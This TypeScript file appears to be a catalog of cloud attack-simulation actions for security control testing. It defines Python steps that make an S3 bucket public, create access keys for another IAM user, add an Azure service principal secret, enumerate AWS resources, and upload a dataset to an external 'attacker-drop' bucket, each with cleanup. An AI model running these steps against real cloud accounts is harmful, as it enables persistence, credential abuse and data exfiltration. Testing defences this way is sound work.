import type { CatalogEntry } from './catalog';
import type { CloudDetails } from './types';

type Script = CloudDetails['scripts'][number];

const setup = (text: string): Script => ({ name: 'Setup', script_text: text, script_type: 'setup', timeout: 120 });
const cleanup = (text: string): Script => ({ name: 'Clean Up', script_text: text, script_type: 'cleanup', timeout: 120 });
const step = (name: string, text: string, timeout = 300): Script => ({ name, script_text: text, script_type: null, timeout });

const py = (...lines: string[]) => lines.join('\n');

/** Cloud Actions (python scripts run by a cloud actor) and Sleep Actions. */
export const CLOUD_AND_SLEEP: CatalogEntry[] = [
  {
    key: 'cl-s3-public',
    type: 'cloud',
    name: 'Cloud - AWS S3 Bucket Made Public',
    description: 'Creates a test bucket, grants public read through a bucket policy and checks whether posture tooling reverts it or alerts.',
    techniques: ['T1530'],
    tags: ['OS:Cloud', 'Control:Cloud Security Posture'],
    dims: { attack_vector: 'Cloud Misconfiguration', os_platform: 'Amazon Web Services', behavior_type: 'Policy Violation' },
    details: {
      inputs: [
        { name: 'bucket_name', default_value: 'vigil-public-test-{{run_id}}' },
        { name: 'region', default_value: 'us-east-1' },
      ],
      outputs: [{ name: 'bucket_arn' }],
      scripts: [
        setup(py('import boto3', "s3 = boto3.client('s3', region_name=inputs['region'])", "s3.create_bucket(Bucket=inputs['bucket_name'])", "outputs['bucket_arn'] = 'arn:aws:s3:::' + inputs['bucket_name']")),
        step(
          'Grant public read',
          py(
            'import boto3, json',
            "policy = {'Version': '2012-10-17', 'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': 's3:GetObject', 'Resource': outputs['bucket_arn'] + '/*'}]}",
            "boto3.client('s3').put_bucket_policy(Bucket=inputs['bucket_name'], Policy=json.dumps(policy))",
          ),
        ),
        cleanup(py('import boto3', "s3 = boto3.resource('s3')", "bucket = s3.Bucket(inputs['bucket_name'])", 'bucket.objects.all().delete()', 'bucket.delete()')),
      ],
    },
  },
  {
    key: 'cl-iam-key',
    type: 'cloud',
    name: 'Cloud - AWS IAM Access Key Created for Another User',
    description: 'Creates an access key for a different IAM user, a common persistence step after account takeover.',
    techniques: ['T1098.001', 'T1078.004'],
    tags: ['OS:Cloud', 'Control:Cloud Security Posture', 'Threat Actor:Scattered Spider'],
    dims: { os_platform: 'Amazon Web Services', behavior_type: 'Credential Access', stage_of_attack: 'Installation' },
    details: {
      inputs: [{ name: 'target_user', default_value: 'svc-reporting' }],
      outputs: [{ name: 'access_key_id' }],
      scripts: [
        setup(py('import boto3', "boto3.client('iam').get_user(UserName=inputs['target_user'])")),
        step('Create access key', py('import boto3', "key = boto3.client('iam').create_access_key(UserName=inputs['target_user'])", "outputs['access_key_id'] = key['AccessKey']['AccessKeyId']")),
        cleanup(py('import boto3', "boto3.client('iam').delete_access_key(UserName=inputs['target_user'], AccessKeyId=outputs['access_key_id'])")),
      ],
    },
  },
  {
    key: 'cl-azure-sp',
    type: 'cloud',
    name: 'Cloud - Azure Service Principal Credential Added',
    description: 'Adds a client secret to an existing service principal with an attached PowerShell helper.',
    techniques: ['T1098.001'],
    tags: ['OS:Cloud', 'Control:Cloud Security Posture', 'Threat Actor:APT29'],
    dims: { os_platform: 'Microsoft Azure', behavior_type: 'Credential Access' },
    files: ['azure_sp_backdoor.ps1'],
    fileVariables: ['sp_script'],
    details: {
      inputs: [
        { name: 'app_id', default_value: '00000000-0000-0000-0000-000000000000' },
        { name: 'tenant_id', default_value: '' },
      ],
      outputs: [{ name: 'secret_id' }],
      scripts: [
        setup(py('import subprocess', "subprocess.run(['pwsh', '-c', 'Connect-AzAccount -Identity'], check=True)")),
        step('Add secret', py('import subprocess', "out = subprocess.run(['pwsh', files['sp_script'], inputs['app_id']], capture_output=True, text=True, check=True)", "outputs['secret_id'] = out.stdout.strip()")),
        cleanup(py('import subprocess', "subprocess.run(['pwsh', '-c', 'Remove-AzADAppCredential -ApplicationId ' + inputs['app_id'] + ' -KeyId ' + outputs['secret_id']], check=True)")),
      ],
    },
  },
  {
    key: 'cl-enum',
    type: 'cloud',
    name: 'Cloud - AWS Infrastructure Discovery with boto3',
    description: 'Lists IAM users, S3 buckets and EC2 instances with read-only calls, as an intruder with stolen keys would.',
    techniques: ['T1580', 'T1087'],
    tags: ['OS:Cloud', 'Control:Cloud Security Posture'],
    dims: { os_platform: 'Amazon Web Services', behavior_type: 'Reconnaissance', stage_of_attack: 'Reconnaissance' },
    files: ['aws_enum.py'],
    fileVariables: ['aws_enum'],
    details: {
      inputs: [{ name: 'region', default_value: 'us-east-1' }],
      outputs: [{ name: 'resource_count' }],
      scripts: [
        setup(py('import sys', "sys.path.insert(0, files_dir)")),
        step('Enumerate', py('import aws_enum', "outputs['resource_count'] = aws_enum.run(region=inputs['region'])")),
        cleanup(py('pass')),
      ],
    },
  },
  {
    key: 'cl-exfil-s3',
    type: 'cloud',
    name: 'Cloud - Exfiltrate Data to External S3 Bucket',
    description: 'Copies a synthetic dataset to a bucket in an account outside the organisation.',
    techniques: ['T1537', 'T1567.002'],
    tags: ['OS:Cloud', 'Control:DLP', 'Control:Cloud Security Posture'],
    dims: { os_platform: 'Amazon Web Services', behavior_type: 'Exfiltration', stage_of_attack: 'Data Exfiltration' },
    files: ['s3_exfil_dataset.tar.gz'],
    fileVariables: ['dataset'],
    details: {
      inputs: [{ name: 'external_bucket', default_value: 'attacker-drop-7731' }],
      outputs: [],
      scripts: [
        setup(py('import os', "assert os.path.exists(files['dataset'])")),
        step('Copy dataset', py('import boto3', "boto3.client('s3').upload_file(files['dataset'], inputs['external_bucket'], 'loot/dataset.tar.gz')")),
        cleanup(py('import boto3', "boto3.client('s3').delete_object(Bucket=inputs['external_bucket'], Key='loot/dataset.tar.gz')")),
      ],
    },
  },
  {
    key: 'sleep-30',
    type: 'sleep',
    name: 'Sleep - 30 Seconds',
    description: 'Waits 30 seconds between steps so controls have time to log.',
    techniques: [],
    dims: { behavior_type: 'Benign' },
    vendor: true,
    timeout_ms: 30000,
    details: {},
  },
  {
    key: 'sleep-300',
    type: 'sleep',
    name: 'Sleep - 5 Minutes (Detection Window)',
    description: 'Waits five minutes so SIEM correlation rules can fire before the next stage.',
    techniques: [],
    dims: { behavior_type: 'Benign' },
    timeout_ms: 300000,
    details: {},
  },
];
